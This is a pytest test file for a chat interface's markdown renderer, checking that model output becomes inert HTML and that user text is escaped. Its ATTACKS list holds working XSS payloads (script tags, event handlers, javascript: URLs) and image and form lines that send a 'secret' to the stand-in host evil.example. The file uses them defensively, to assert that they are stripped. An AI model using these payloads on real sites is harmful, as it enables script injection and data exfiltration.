"""Words of the model become HTML that can do nothing; words of a person are never markup."""

import re
from itertools import pairwise

import pytest

from ui.render import markdown, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><button>Approve</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| ![a](//evil.example/x) |",
    "[a]: javascript:alert(1)\n[a]",
    "<math><mtext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
ALLOWED = "p br hr h1 h2 h3 h4 h5 h6 strong em s code pre blockquote ul ol li a table thead tbody tr th td".split()


def test_what_is_hidden_in_a_persons_words_is_shown_and_emoji_stay_whole():
    assert (
        plain("drop \u202esales\u200b\n\U0001f468\u200d\U0001f469")
        == "drop \\u202Esales\\u200B\n\U0001f468\u200d\U0001f469"
    )
    assert plain("a\r\nb<c>") == "a\nb&lt;c&gt;"


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_submits_survives(attack):
    html = markdown(attack)
    for tag, attributes in TAG.findall(html):
        assert tag in ALLOWED
        assert not re.search(r"\son\w+\s*=|src\s*=|style\s*=", attributes)
        for href in re.findall(r'href="([^"]*)"', attributes):
            assert href.startswith(("http://", "https://", "mailto:"))


def test_links_open_elsewhere_and_tell_nothing():
    html = markdown("[ok](https://example.com/a?b=c)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_an_image_becomes_its_words():
    assert markdown("see ![a chart](https://e.example/x.png)") == "<p>see [a chart]</p>\n"


def test_tables_code_and_lists_are_kept():
    html = markdown("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- x\n\n```\n  indented\n```")
    assert '<td align="right">2</td>' in html
    assert "<li>x</li>" in html
    assert "<code>  indented\n</code>" in html


def test_hidden_characters_and_terminal_codes_are_dropped():
    assert markdown("a\u202eb\x1b[31mc\U000e0041") == "<p>abc</p>\n"


def test_a_persons_words_are_shown_as_typed():
    assert plain("**x** <b>&") == "**x** &lt;b&gt;&amp;"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("| a | b", ""),
        ("so\n\n| a | b |", "<p>so</p>"),
        ("so\n\n| a | b |\n|---", "<p>so</p>"),
        ("so\n\n| a | b |\n|---|--", "table"),
        ("so\n\n| a | b |\n|---|---|\n| 1 | 2", "table"),
        ("a | b", "a | b"),
    ],
)
def test_the_beginning_of_a_table_waits_until_it_is_one(text, shown):
    html = markdown(text, unfinished=True)
    assert (shown in html) if shown else html == ""
    assert "|" not in html or "|" in shown


def test_a_finished_answer_keeps_its_bars():
    assert "| a | b" in markdown("| a | b")


GROWING = "One **bold** word.\n\n- a\n- b c\n\n> said\n\n```sql\nselect 1\n```\n\nLast words"


def test_while_an_answer_goes_on_its_new_words_go_behind_the_old_ones():
    whole_words = [GROWING[: found.end()] for found in re.finditer(r"[a-z1]+(?=[ .\n]|$)", GROWING)]
    drawn = [markdown(text, going_on=True) for text in whole_words if text.count("**") % 2 == 0]
    assert len(drawn) > 8
    assert [later for earlier, later in pairwise(drawn) if not later.startswith(earlier)] == []


def test_what_stays_open_while_an_answer_goes_on_is_only_tags():
    whole, open_ended = markdown(GROWING), markdown(GROWING, going_on=True)
    assert whole.startswith(open_ended)
    assert re.fullmatch(r"(</\w+>\s*)+", whole.removeprefix(open_ended))
